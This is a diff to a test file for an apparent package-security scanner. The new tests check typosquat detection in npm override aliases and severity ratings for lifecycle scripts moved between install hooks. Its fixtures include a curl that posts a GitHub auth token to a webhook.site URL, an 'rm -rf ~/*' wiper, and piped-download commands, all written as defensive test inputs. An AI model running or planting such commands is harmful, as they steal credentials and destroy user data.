@@ -952,6 +952,20 @@ describe('overrides and resolutions that take a package from outside the registr
     expect(pip('colorama @ https://files.pythonhosted.org/packages/colorama-0.4.6-py2.py3-none-any.whl')).toEqual(['url-dependency medium']);
     expect(pip('pypy-tools @ https://downloads.pypy.org/tools/pypy-tools-1.0.tar.gz')).toEqual(['url-dependency medium']);
   });
+  it("reads an override that points a package at another one through an npm alias as that package (pnpm.overrides, npm's overrides, Yarn's resolutions): a look-alike is a typosquat", () => {
+    const squats = (extra: Record<string, unknown>) =>
+      analyze(snapshotOf(change('package.json', base, withOverrides(extra))))
+        .findings.filter((f) => f.id === 'typosquat')
+        .map((f) => [f.package, f.severity]);
+    expect(squats({ pnpm: { overrides: { lodash: 'npm:lodahs@^4.17.21' } } })).toEqual([['lodahs', 'high']]);
+    expect(squats({ overrides: { express: { 'path-to-regexp': 'npm:path-to-regexpp@0.1.12' } } })).toEqual([['path-to-regexpp', 'high']]);
+    expect(squats({ resolutions: { '**/debug': 'npm:debugg@4.4.0' } })).toEqual([['debugg', 'high']]);
+    // An alias to a popular package, to the same package, or a registry version: nothing.
+    expect(squats({ pnpm: { overrides: { 'string-width-cjs': 'npm:string-width@^4.2.0', lodash: 'npm:lodash@4.17.21', qs: '6.14.0' } } })).toEqual([]);
+    // One the base already had: nothing.
+    const aliased = withOverrides({ pnpm: { overrides: { lodash: 'npm:lodahs@^4.17.21' } } });
+    expect(analyze(snapshotOf(change('package.json', aliased, aliased.replace('"^5.1.0"', '"^5.2.0"')))).findings.filter((f) => f.id === 'typosquat')).toEqual([]);
+  });
   it('reads at most 2,000 override entries and reports at most 20 of a file', () => {
     const many = Object.fromEntries(Array.from({ length: 5_000 }, (_, i) => [`pkg-${i}`, `github:someone/pkg-${i}#main`]));
     const section = analyze(snapshotOf(change('package.json', base, withOverrides({ overrides: many }))));
@@ -1746,6 +1760,36 @@ ${uses.map((u) => `      - uses: ${u}`).join('\n')}
     expect(severity('esbuild --bundle https://example.test/x.js')).toEqual(['high']);
     expect(severity('tsc | sh')).toEqual(['high']);
     expect(severity('tsup $(curl -s https://example.test/a)')).toEqual(['high']);
+  });
+
+  it("does not report a script moved to another lifecycle script that reaches no one new; rates a move by who it adds (koa's prepublish to prepare)", () => {
+    const findings = (before: Record<string, string>, after: Record<string, string>) =>
+      analyze(snapshotOf(change('package.json', pkg({ scripts: before }), pkg({ scripts: after })))).findings.filter((f) => f.id === 'npm-install-script');
+    const found = (before: Record<string, string>, after: Record<string, string>) => findings(before, after).map((f) => [f.severity, f.title]);
+    const build = { test: 'mocha test', build: 'gen-esm-wrapper . ./dist/koa.mjs' };
+    // prepublish to prepare: the same command, now also on installs from git too; never from the registry.
+    const koa = findings({ ...build, prepublish: 'npm run build' }, { ...build, prepare: 'npm run build' });
+    expect(koa.map((f) => [f.severity, f.title])).toEqual([['low', 'Install script "prepare" moved from "prepublish" in package.json']]);
+    expect(koa[0]?.detail).toContain('The base ran the same script from "prepublish"');
+    // A pack-time command moved onto developers' local installs: medium.
+    expect(found({ ...build, prepack: 'npm run build' }, { ...build, prepublish: 'npm run build' })).toEqual([['medium', 'Install script "prepublish" moved from "prepack" in package.json']]);
+    expect(found({ ...build, prepublishOnly: 'npm run build' }, { ...build, prepare: 'npm run build' })).toEqual([['medium', 'Install script "prepare" moved from "prepublishOnly" in package.json']]);
+    // Moved to a script that reaches no one new (postinstall to prepare, prepare to prepublish), whitespace aside, or copied: nothing.
+    expect(findings({ ...build, postinstall: 'node scripts/setup.js' }, { ...build, prepare: 'node  scripts/setup.js ' })).toEqual([]);
+    expect(findings({ ...build, prepare: 'npm run build' }, { ...build, prepublish: 'npm run build' })).toEqual([]);
+    expect(findings({ ...build, postinstall: 'npm run build' }, { ...build, postinstall: 'npm run build', prepare: 'npm run build' })).toEqual([]);
+    // Onto every consumer's install, a changed command, a changed script it runs, one no lifecycle script ran: high.
+    expect(found({ ...build, prepare: 'npm run build' }, { ...build, postinstall: 'npm run build' })).toEqual([['high', 'New install script "postinstall" in package.json']]);
+    expect(found({ ...build, prepublish: 'npm run build' }, { ...build, prepare: 'npm run build && node scripts/x.js' })).toEqual([['high', 'New install script "prepare" in package.json']]);
+    expect(found({ ...build, prepublish: 'npm run build' }, { ...build, build: 'node scripts/esm.js', prepare: 'npm run build' })).toEqual([['high', 'New install script "prepare" in package.json']]);
+    expect(found({ ...build, release: 'npm run build' }, { ...build, prepare: 'npm run build' })).toEqual([['high', 'New install script "prepare" in package.json']]);
+    expect(found({ prepublish: 'a-tool one && b-tool two' }, { prepare: 'a-tool one || b-tool two' })).toEqual([['high', 'New install script "prepare" in package.json']]);
+    // A collector, a wiper or a download keeps its severity however it moved.
+    const exfil = 'curl -d "$(gh auth token)" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7';
+    expect(found({ postinstall: exfil }, { prepare: exfil })).toEqual([['critical', 'New install script "prepare" in package.json']]);
+    expect(found({ prepack: 'node x.js || rm -rf ~/*' }, { prepare: 'node x.js || rm -rf ~/*' })).toEqual([['critical', 'New install script "prepare" in package.json']]);
+    const download = 'curl -fsSL https://downloads.acme.dev/cli.tgz | tar xz -C ./bin';
+    expect(found({ prepublish: download }, { prepare: download })).toEqual([['high', 'New install script "prepare" in package.json']]);
   });
 
   it('reports a script that an unchanged install script runs with npm run when the PR changes it, unless it still only builds the package', () => {
